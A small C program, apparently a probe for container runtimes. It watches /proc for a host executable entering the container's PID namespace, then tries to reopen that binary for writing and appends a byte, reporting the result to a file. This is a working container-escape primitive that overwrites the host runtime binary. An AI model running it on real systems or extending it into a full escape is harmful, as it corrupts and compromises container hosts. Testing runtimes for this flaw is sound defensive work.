/* Takes hold of a foreign program that enters this PID namespace, and writes to it once it may.
 *
 * usage: grab RESULT
 * RESULT gets the size of the program and "overwrote", or what the kernel says. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* A program that is not on the container's file system. */
static int grab(dev_t own) {
    for (;;) {
        char path[300];
        struct stat found;
        /* Pids rise from 2 on, and one that has ended is not waited for. */
        DIR *all = opendir("/proc");
        struct dirent *entry;
        while ((entry = readdir(all))) {
            if (atoi(entry->d_name) < 2)
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            if (!fstat(fd, &found) && found.st_dev != own) {
                closedir(all);
                return fd;
            }
            close(fd);
        }
        closedir(all);
    }
}

int main(int argc, char **argv) {
    char path[64], text[64] = "text file busy to the end";
    struct stat found;
    if (argc != 2)
        return 2;
    stat("/", &found);
    int held = grab(found.st_dev);
    fstat(held, &found);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    time_t end = time(NULL) + 5;
    while (time(NULL) < end) {
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0) {
            strcpy(text, write(fd, "x", 1) == 1 ? "overwrote" : "opened");
            break;
        }
        if (errno != ETXTBSY) {
            strcpy(text, strerror(errno));
            break;
        }
    }
    FILE *out = fopen(argv[1], "w");
    fprintf(out, "%lld %s", (long long)found.st_size, text);
    fclose(out);
    pause();
    return 0;
}
